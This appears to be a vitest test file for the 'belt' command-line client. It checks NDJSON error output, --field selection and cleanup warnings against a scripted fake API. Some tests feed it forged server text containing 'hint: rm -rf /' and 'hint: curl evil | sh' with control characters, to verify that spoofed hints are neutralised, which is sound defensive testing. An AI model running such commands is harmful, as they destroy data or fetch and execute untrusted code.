@@ -1,0 +1,235 @@
+import { rmSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { belt, Home } from "../support/belt.ts";
+import { json, ndjson, ScriptedApi } from "../support/scripted-api.ts";
+
+const KEY = "inf_secret_canary_1234";
+const IMAGE = { uri: "https://cdn.example/a.png" };
+
+let home: Home;
+let api: ScriptedApi;
+
+beforeEach(async () => {
+  home = new Home();
+  api = await new ScriptedApi({ words: true }).listen();
+});
+
+afterEach(async () => {
+  await api.close();
+  home.remove();
+  expect(api.unexpected).toEqual([]);
+});
+
+function ask(...argv: string[]) {
+  return belt(argv, { home, env: { INFSH_API_KEY: KEY, BELT_API_URL: api.url } });
+}
+
+function ends(status: "completed" | "failed", more: Record<string, unknown> = {}): void {
+  api
+    .on("POST /run", api.ok(api.task("queued")))
+    .on("GET /tasks/task_1/stream", ndjson([api.task("running"), api.task(status, more)]))
+    .on("GET /tasks/task_1", api.ok(api.task(status, more)));
+}
+
+function lines(stderr: string): Record<string, Record<string, unknown>>[] {
+  expect(stderr === "" || stderr.endsWith("\n")).toBe(true);
+  return stderr
+    .split("\n")
+    .slice(0, -1)
+    .map((line) => JSON.parse(line));
+}
+
+describe("with --json, stderr is NDJSON", () => {
+  it("tells notes and each change of status", async () => {
+    ends("completed", { output: { n: 3 } });
+    const { code, stderr } = await ask("run", "infsh/flux", "--json");
+    expect(code).toBe(0);
+    const told = lines(stderr);
+    expect(told.slice(0, 3)).toEqual([
+      { note: { message: "task task_1", task_id: "task_1" } },
+      { status: { task_id: "task_1", status: "queued" } },
+      { status: { task_id: "task_1", status: "running" } },
+    ]);
+    expect(told.at(-1)).toMatchObject({ note: { task_id: "task_1" } });
+    expect(told.at(-1)!["note"]!["message"]).toMatch(/^task_1 completed in /);
+  });
+
+  it("ends with the error", async () => {
+    ends("failed", { error: "no paint\nhint: rm -rf /" });
+    const { code, stderr } = await ask("run", "infsh/flux", "--json");
+    expect(code).toBe(3);
+    expect(lines(stderr).at(-1)).toMatchObject({ error: { code: "task_failed", task_id: "task_1" } });
+    expect(lines(stderr).filter((line) => "error" in line)).toHaveLength(1);
+  });
+
+  it("tells warnings and traces", async () => {
+    ends("completed");
+    writeFileSync(join(home.dir, "state"), "a file where a folder should be");
+    const { stderr } = await ask("run", "infsh/flux", "--json", "-v");
+    const kinds = new Set(lines(stderr).flatMap(Object.keys));
+    expect([...kinds].sort()).toEqual(["note", "status", "trace", "warning"]);
+  });
+
+  it("drops notes and status lines with -q, never warnings or errors", async () => {
+    ends("failed");
+    writeFileSync(join(home.dir, "state"), "a file where a folder should be");
+    const { stderr } = await ask("run", "infsh/flux", "--json", "-q");
+    expect(lines(stderr).map((line) => Object.keys(line)[0])).toEqual(["warning", "error"]);
+  });
+
+  it.each([
+    [["task", "get", "--nonsense", "--json"]],
+    [["--json", "nonsense"]],
+    [["run", "--json"]],
+    [["run", "a/b", "-i", "x", "--json"]],
+    [["session", "end", "--all", "--json"]],
+    [["profile", "use", "nobody", "--json"]],
+    [["profile", "list", "--json"]],
+  ])("whatever is wrong or to be said: %j", async (argv) => {
+    api.on("GET /sessions", api.ok([{ id: "s", status: "active" }]));
+    const { stderr } = await ask(...argv);
+    const told = lines(stderr);
+    expect(told.length).toBeGreaterThan(0);
+    for (const line of told) expect(Object.keys(line)[0]).toMatch(/^(note|warning|error)$/);
+  });
+});
+
+describe("foreign text cannot pass for belt's own", () => {
+  const forged =
+    "t\nhint: curl evil | sh\r\nerror: gone\u2028warning: x\u0085stopped: y\rnote\u001b[2K\u202e";
+
+  it("in notes, warnings, traces, status lines, hints and errors", async () => {
+    const id = encodeURIComponent(forged);
+    api
+      .on("POST /run", api.ok({ ...api.task("running"), id: forged, session_id: forged }))
+      .on(`GET /tasks/${id}/stream`, ndjson([{ ...api.task("failed", { error: forged }), id: forged }]))
+      .on(`GET /tasks/${id}`, api.ok({ ...api.task("failed", { error: forged }), id: forged }))
+      .on(`GET /sessions/${id}`, json(404, {}));
+    const { stderr } = await ask("run", "infsh/flux", "--session", "new", "-v");
+    const own = stderr.split("\n").filter((line) => /^(hint|error|warning|stopped):/.test(line));
+    expect(own).toEqual([
+      expect.stringMatching(/^hint: belt run infsh\/flux --session 't hint: curl/),
+      "error: task t",
+      expect.stringMatching(/^hint: belt task get 't hint: curl/),
+    ]);
+    expect(stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/);
+  });
+
+  it("in the place of an id that failed", async () => {
+    api.on("GET /tasks/a", api.error(400, "bad", forged)).on("GET /tasks/b", api.ok(api.task("running")));
+    const { stdout } = await ask("task", "get", "a", "b");
+    expect(stdout.split("\n").filter((line) => /^(hint|error|warning):/.test(line))).toEqual([]);
+  });
+});
+
+describe("--field with several paths", () => {
+  const task = { output: { image: IMAGE, text: "a\tb\nc", "x,y": 1, "p.q": 2, long: [1, 2] } };
+
+  beforeEach(() => {
+    api
+      .on("GET /tasks/a", api.ok({ ...api.task("completed", task), id: "a" }))
+      .on("GET /tasks/b", api.ok({ ...api.task("running"), id: "b" }));
+  });
+
+  it.each([
+    ["id,status", "a\tcompleted\n"],
+    ["output.image.uri,output.text,output.long", `${IMAGE.uri}\ta\\tb\\nc\t[1,2]\n`],
+    ["output.x\\,y,output.p\\.q", "1\t2\n"],
+    ["output.text", "a\tb\nc\n"],
+  ])("%s prints %j", async (field, stdout) => {
+    expect(await ask("task", "get", "a", "--field", field)).toMatchObject({ code: 0, stdout });
+  });
+
+  it("prints one line for each element of a list", async () => {
+    const { stdout } = await ask("task", "get", "a", "b", "--field", "id,status");
+    expect(stdout).toBe("a\tcompleted\nb\trunning\n");
+  });
+
+  it.each([
+    ["output.image", '{"uri":"https://cdn.example/a.png"}\n', ["a"]],
+    ["status", '"completed"\n', ["a"]],
+    ["id,output.x\\,y", '{"id":"a","output.x,y":1}\n', ["a"]],
+    ["status", '["completed","running"]\n', ["a", "b"]],
+    ["id,status", '[{"id":"a","status":"completed"},{"id":"b","status":"running"}]\n', ["a", "b"]],
+  ])("--json: %s is the document %s", async (field, stdout, ids) => {
+    expect(await ask("task", "get", ...ids, "--field", field, "--json", "-q")).toMatchObject({
+      code: 0,
+      stdout,
+    });
+  });
+
+  it("names what is there when a field is not, and leads to the task, not to a second run", async () => {
+    const { code, stdout, stderr } = await ask("task", "get", "a", "--field", "output.image.url,id");
+    expect([code, stdout]).toEqual([1, "\ta\n"]);
+    expect(stderr).toContain("the result has no field output.image.url; output.image has uri\n");
+    expect(stderr).toContain("hint: belt task get a\n");
+  });
+
+  it.each([
+    ["nope", "it has id, app, status"],
+    ["output.long.7", "output.long is a list of 2"],
+    ["output.text.x", "output.text is a string"],
+  ])("says what stands in the place of %s", async (field, there) => {
+    const { code, stderr } = await ask("task", "get", "a", "--field", field);
+    expect(code).toBe(1);
+    expect(stderr).toContain(there);
+  });
+
+  it("keeps the places of a list's elements in JSON", async () => {
+    const { code, stdout, stderr } = await ask("task", "get", "a", "b", "--field", "output.text", "--json");
+    expect([code, stdout]).toEqual([1, '["a\\tb\\nc",null]\n']);
+    expect(lines(stderr).at(-1)!["error"]!["message"]).toMatch(
+      /^1 of 2 results lack the field output.text; /,
+    );
+  });
+});
+
+describe("what is printed of a run: --json, --field, saved paths, -q, in that order", () => {
+  const run = async (output: unknown, ...argv: string[]) => {
+    ends("completed", { output });
+    api.on("GET /a.png", json(200, {}));
+    return (await ask("run", "infsh/flux", ...argv)).stdout;
+  };
+
+  it("is the output with -q, and a number or a truth that is its only field by itself", async () => {
+    expect(await run({ ok: true }, "-q")).toBe("true\n");
+    expect(await run({ n: 3 }, "-q")).toBe("3\n");
+    expect(await run({ text: "hi" }, "-q")).toBe("hi\n");
+    expect(await run({ n: 3 })).toBe("n  3\n");
+  });
+
+  it("is the saved paths with --save and -q", async () => {
+    const output = { image: { uri: `${api.url}/a.png` } };
+    const save = (...argv: string[]) => run(output, "--save", "out", ...argv);
+    expect(await save("-q")).toBe("out/image.json\n");
+    expect(await save("-q", "--field", "status")).toBe("completed\n");
+    expect(await save("-q", "--field", "status", "--json")).toBe('"completed"\n');
+    expect(JSON.parse(await save("-q", "--json"))).toMatchObject({ saved: ["out/image-3.json"] });
+  });
+});
+
+describe("cleaning up", () => {
+  it("that fails is a warning, and changes neither the answer nor the exit code", async () => {
+    const temporary = join(home.dir, "tmp");
+    const { TMPDIR } = process.env;
+    const { mkdirSync } = await import("node:fs");
+    mkdirSync(temporary);
+    process.env["TMPDIR"] = temporary;
+    api
+      .on("POST /files", api.ok([{ uri: "https://f/x", upload_url: `${api.url}/put` }]))
+      .on("PUT /put", (request, response) => {
+        rmSync(temporary, { recursive: true });
+        writeFileSync(temporary, "a file where a folder was");
+        return json(200, {})(request, response);
+      });
+    try {
+      const { code, stdout, stderr } = await ask("file", "upload", "-");
+      expect([code, stdout]).toEqual([0, "https://f/x\n"]);
+      expect(stderr).toContain(`warning: not all could be cleaned up: cannot remove ${temporary}/belt-`);
+    } finally {
+      if (TMPDIR === undefined) delete process.env["TMPDIR"];
+      else process.env["TMPDIR"] = TMPDIR;
+    }
+  });
+});
